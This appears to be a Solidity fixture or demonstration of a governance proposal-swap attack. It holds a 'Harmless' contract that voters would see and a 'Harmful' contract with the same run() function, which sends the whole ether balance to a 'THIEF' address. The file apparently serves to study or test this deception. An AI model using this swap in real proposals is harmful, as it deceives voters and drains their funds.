// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

/// @title Harmless
/// @notice What a proposal shows its voters: a call that only counts.
contract Harmless {
    uint256 public calls;

    function run() external {
        ++calls;
    }
}

/// @title Harmful
/// @notice What stands there when the proposal is executed: the same function, another meaning.
contract Harmful {
    address internal immutable THIEF;

    constructor(address thief) {
        THIEF = thief;
    }

    function run() external {
        (bool success, ) = THIEF.call{value: address(this).balance}("");
        require(success);
    }
}
